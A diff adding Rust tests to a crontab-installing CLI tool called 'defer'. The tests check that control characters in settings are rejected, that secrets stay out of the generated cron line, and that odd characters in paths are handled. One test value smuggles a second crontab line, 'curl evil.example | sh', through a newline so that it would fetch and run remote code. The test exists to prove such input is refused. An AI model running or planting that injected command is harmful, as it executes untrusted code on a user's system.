@@ -128,3 +128,117 @@ fn missing_crontab_command_is_a_clear_error() {
         );
     }
 }
+
+// ---- untrusted settings ----
+
+#[test]
+fn a_control_character_in_a_setting_is_refused_and_nothing_is_installed() {
+    let env = Env::new();
+    let (bin, file) = fake_crontab(&env);
+    fs::write(&file, "0 3 * * * backup\n").unwrap();
+    for (name, value) in [
+        (
+            "DEFER_EXECUTOR",
+            "/bin/true\n* * * * * curl evil.example | sh",
+        ),
+        ("DEFER_ON_FAILURE", "notify\rfake"),
+        ("DEFER_LOG_DIR", "logs\u{1b}[2J"),
+    ] {
+        for args in [&["cron"][..], &["cron", "--install"]] {
+            let out = with_path(env.cmd(args), &bin).env(name, value).failure(1);
+            let line = out.error_line();
+            assert!(
+                line.starts_with(&format!("defer: {name} holds a control character ('")),
+                "{line}"
+            );
+            assert!(!line.chars().any(char::is_control), "{line}");
+            assert!(out.stdout.is_empty(), "{}", out.stdout);
+        }
+    }
+    assert_eq!(fs::read_to_string(&file).unwrap(), "0 3 * * * backup\n");
+}
+
+#[test]
+fn only_defer_settings_are_baked_in() {
+    let env = Env::new();
+    let out = env
+        .cmd(&["cron"])
+        .env("DEFER_API_KEY", "sk-secret-token")
+        .env("DEFER_TASK_ID", "t1")
+        .env("DEFER_GRACE_SECONDS", "120")
+        .env("DEFER_ON_SUCCESS", "/usr/local/bin/notify")
+        .success();
+    let line = out.stdout.trim_end();
+    assert!(
+        !line.contains("secret") && !line.contains("DEFER_API_KEY"),
+        "{line}"
+    );
+    assert!(!line.contains("DEFER_TASK_ID"), "{line}");
+    assert!(line.contains(" DEFER_GRACE_SECONDS=120 "), "{line}");
+    assert!(
+        line.contains(" DEFER_ON_SUCCESS=/usr/local/bin/notify "),
+        "{line}"
+    );
+}
+
+/// What cron runs for a crontab line (crontab(5)): the command after the five time
+/// fields, where `\%` is `%`, a backslash keeps any other character as is, and an
+/// unescaped `%` ends the command.
+fn cron_command(line: &str) -> String {
+    let command = line.splitn(6, ' ').nth(5).expect("five time fields");
+    let mut out = String::new();
+    let mut escaped = false;
+    for c in command.chars() {
+        if escaped {
+            if c == '%' {
+                out.pop();
+            }
+            out.push(c);
+            escaped = false;
+            continue;
+        }
+        match c {
+            '%' => break,
+            '\\' => escaped = true,
+            _ => {}
+        }
+        out.push(c);
+    }
+    out
+}
+
+#[test]
+fn the_installed_line_runs_under_cron_with_percent_quote_and_backslash_in_paths() {
+    let env = Env::new();
+    let (bin, file) = fake_crontab(&env);
+    let runtime = env.root().join(r"50% it's a\%b\\%");
+    let out = with_path(env.cmd(&["cron", "--install"]), &bin)
+        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
+        .success();
+    let installed = fs::read_to_string(&file).unwrap();
+    let line = ours(&installed)[0];
+    assert_eq!(line, out.stdout.trim_end());
+
+    env.cmd(&["schedule", "--when", "now", "--summary", "s", "--id", "t1"])
+        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
+        .success();
+    // As cron would: `sh -c` on the processed command, in a bare environment.
+    let ran = std::process::Command::new("/bin/sh")
+        .arg("-c")
+        .arg(cron_command(line))
+        .env_clear()
+        .env("HOME", env.home())
+        .env("PATH", "/usr/bin:/bin")
+        .current_dir(env.home())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&ran.stderr);
+    assert!(ran.status.success(), "{line}\n{stderr}");
+    let shown = env
+        .cmd(&["show", "t1", "--compact"])
+        .env("DEFER_RUNTIME_DIR", runtime.display().to_string())
+        .success()
+        .json();
+    assert_eq!(shown["status"], "completed", "{line}");
+    assert!(runtime.join("logs/t1.prompt.txt").is_file());
+}
